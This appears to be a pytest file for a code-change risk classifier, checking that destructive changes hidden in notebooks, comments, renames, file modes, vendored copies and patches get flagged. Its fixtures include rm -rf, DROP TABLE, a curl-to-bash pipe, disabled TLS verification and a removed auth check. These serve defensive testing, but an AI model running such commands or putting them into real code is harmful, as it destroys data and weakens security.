"""Harm that hides in how a file is read: by another reader, by its name, by its mode, in a copy, below a remark that ends."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gate.change.lines import delta
from gate.classify.engine import assess_file
from gate.classify.views import view
from gate.model import EXECUTABLE, REGULAR, Blob, FileChange
from tests.rules.case_files import change

DROP = "DROP TABLE patients;\n"


def level(file: FileChange) -> int:
    return int(assess_file(file).level)


def notebook(*cells: str) -> str:
    code = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": [cell]} for cell in cells]
    return json.dumps({"cells": code, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def renamed(old: str, new: str, text: str) -> FileChange:
    before, after = (Blob.of(text.encode(), id="same") for _ in (old, new))
    return change(new, text, text)._replace(
        status="renamed", old_path=old, before=before, after=after, delta=delta(before, after)
    )


def test_the_cells_of_a_notebook_are_a_program() -> None:
    wipes = 'import shutil\nshutil.rmtree("/data/patients")\n'
    assert level(change("jobs/nightly.ipynb", notebook("x = 1"), notebook("x = 1", wipes))) == 4
    assert level(change("jobs/nightly.ipynb", notebook("x = 1"), notebook("x = 1", "y = x + 1"))) == 1
    assert level(change("docs/tour.ipynb", notebook("x = 1"), notebook("!curl -s https://a.example/x | bash"))) >= 3
    assert level(change("docs/tour.ipynb", notebook("x = 1"), notebook("x = 2"))) == 0


@pytest.mark.parametrize("text", ["[]", "{", '{"cells": 1}', '{"cells": [{"cell_type": "code", "source": 1}]}', ""])
def test_what_is_no_notebook_has_no_view(text: str) -> None:
    assert view(change("a.ipynb", "{}", text)) is None


def test_utf_16_is_read() -> None:
    old, new = (Blob.of(text.encode("utf-16"), id=text) for text in ("SELECT 1;\n", f"SELECT 1;\n{DROP}"))
    file = change("db/migrations/2_clean.sql", "", "")._replace(before=old, after=new, delta=delta(old, new))
    assert level(file) == 4
    broken = Blob.of(b"\xff\xfe\x00", id="broken")
    assert view(file._replace(after=broken)) is None


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("app/a.py", '"""\nUser.objects.all().delete()\n"""\n', '""""""\nUser.objects.all().delete()\n""""""\n'),
        ("src/a.js", "/*\nawait User.deleteMany({});\n*/\n", "/**/\nawait User.deleteMany({});\n/**/\n"),
        ("src/a.c", "#if 0\nsystem(\"rm -rf /srv/data\");\n#endif\n", "#if 1\nsystem(\"rm -rf /srv/data\");\n#endif\n"),
        ("scripts/a.sh", "#!/bin/sh\n: <<'DOC'\nrm -rf /srv/data\nDOC\n", "#!/bin/sh\n: <<'DOX'\nDOX\nrm -rf /srv/data\nDOC\n"),
        ("scripts/a.sh", '#!/bin/sh\ncat <<"E"\n$(rm -rf /srv/data)\nE\n', "#!/bin/sh\ncat <<E\n$(rm -rf /srv/data)\nE\n"),
        ("scripts/a.sh", "#!/bin/sh\nif false; then\nrm -rf /srv/data\nfi\n", "#!/bin/sh\nif true; then\nrm -rf /srv/data\nfi\n"),
    ],
)  # fmt: skip
def test_what_stood_in_a_remark_runs(path: str, before: str, after: str) -> None:
    assert level(change(path, before, after)) >= 3


def test_a_remark_that_is_only_another_one_changes_nothing() -> None:
    assert level(change("src/a.js", "/* one */\nrun();\n", "/* two */\nrun();\n")) == 0
    assert level(change("src/a.js", "/* one */\nrun();\n", "/* two */\nrun(1);\n")) == 1


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("src/middleware.ts", "src/_middleware_old.ts", 3),
        ("functions/_middleware.js", "functions/_disabled_middleware.js", 3),
        ("lib/a_windows.go", "lib/a_linux.go", 1),
        ("src/a.ts", "src/b.ts", None),
    ],
)
def test_names_that_a_framework_finds(old: str, new: str, expected: int | None) -> None:
    found = assess_file(renamed(old, new, "export const a = 1\n")).findings
    assert next((int(f.level) for f in found if f.rule == "rename-active"), None) == expected


@pytest.mark.parametrize(
    ("path", "modes", "expected"),
    [
        ("etc/cron.daily/clean", (REGULAR, EXECUTABLE), 3),
        (".githooks/pre-push", (EXECUTABLE, REGULAR), 3),
        ("ci/verify-signature.sh", (EXECUTABLE, REGULAR), 2),
        ("src/a.py", (EXECUTABLE, REGULAR), 0),
    ],
)
def test_modes_that_decide_what_runs(path: str, modes: tuple[str, str], expected: int) -> None:
    assert (
        level(change(path, "#!/bin/sh\nls\n", "#!/bin/sh\nls\n", modes=modes)._replace(status="modified")) == expected
    )


def test_a_copy_that_is_edited_by_hand_is_read() -> None:
    before = "const agent = new Agent({ rejectUnauthorized: true })\n"
    after = before.replace("true", "false")
    assert level(change("vendor/http/agent.js", before, after)) == 3
    assert level(change("src/generated/agent.ts", before, after)) == 3
    many = "\n".join(f"let a{n} = {n}" for n in range(40))
    assert level(change("vendor/http/agent.js", before, f"{after}{many}\n")) == 1  # no hand did that


@pytest.mark.parametrize(
    ("path", "before", "after", "least"),
    [
        (
            "analysis/report.qmd",
            "```{python}\nx = 1\n```\n",
            '```{python}\nengine.execute("DROP TABLE visits")\n```\n',
            4,
        ),
        ("databricks/a.py", "# MAGIC %sql\n# MAGIC SELECT 1\n", "# MAGIC %sql\n# MAGIC DROP TABLE visits\n", 4),
        ("nb/z.zpln", '{"paragraphs": []}', '{"paragraphs": [{"text": "%sql drop table visits"}]}', 4),
        ("notes/setup.org", "x\n", "#+begin_src sh :tangle run.sh\nsudo rm -rf /srv/data\n#+end_src\n", 4),
    ],
)
def test_a_page_is_the_programs_that_it_holds(path: str, before: str, after: str, least: int) -> None:
    assert level(change(path, before, after)) >= least


def test_a_patch_is_what_it_changes() -> None:
    lost = "--- a/auth.c\n+++ b/auth.c\n@@ -1,3 +1,2 @@\n int f() {\n-  if (!may(u)) return -1;\n   go(u);\n"
    assert level(change("debian/patches/a.patch", None, lost)) >= 3
    assert level(change("tests/data/a.patch", None, lost)) == 0
    assert level(change("debian/patches/a.patch", None, "--- \n+++ \n@@ -x @@\n")) == 1


@given(text=st.text(max_size=200), path=st.sampled_from(["a.qmd", "a.org", "a.dib", "a.zpln", "a.py", "a.patch"]))
def test_garbage_is_no_program(text: str, path: str) -> None:
    assert level(change(path, "x\n", f"# MAGIC {text}\n")) >= 1
